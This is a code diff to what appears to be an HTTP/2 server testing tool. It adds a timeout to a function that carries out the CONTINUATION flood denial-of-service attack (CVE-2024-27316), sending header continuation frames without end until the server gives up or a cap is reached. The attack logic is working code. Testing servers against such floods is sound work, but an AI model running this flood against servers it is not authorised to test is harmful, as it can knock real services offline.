@@ -113,10 +113,16 @@ export async function madeYouReset(
 /**
  * CONTINUATION flood (CVE-2024-27316 and kin): a HEADERS without END_HEADERS, then CONTINUATION
  * frames of `step` octets of valid literal fields, never ending the block, a pause after each so
- * the server reads as it comes, until the server sends GOAWAY or closes or `max` octets went.
+ * the server reads as it comes, until the server sends GOAWAY or closes, `max` octets went, or
+ * `ms` passed.
  * `sent` counts the field block's octets when the end was first seen.
  */
-export async function continuationFlood(endpoint: H2Endpoint, max = 1 << 20, step = 4096): Promise<AttackResult> {
+export async function continuationFlood(
+  endpoint: H2Endpoint,
+  max = 1 << 20,
+  step = 4096,
+  ms = 15_000,
+): Promise<AttackResult> {
   const c = await H2Client.open(endpoint);
   const began = performance.now();
   try {
@@ -124,7 +130,7 @@ export async function continuationFlood(endpoint: H2Endpoint, max = 1 << 20, ste
     c.send(rawFrame(FRAME_TYPE.HEADERS, FLAG.END_STREAM, 1, head));
     let sent = head.length;
     let n = 0;
-    while (sent < max && endSoFar(c) === null) {
+    while (sent < max && performance.now() - began < ms && endSoFar(c) === null) {
       const fields: number[] = [];
       while (fields.length < step - 80) fields.push(...literal(`x-flood-${n++}`, "v".repeat(60)));
       c.send(encodeContinuation(1, Uint8Array.from(fields), false));
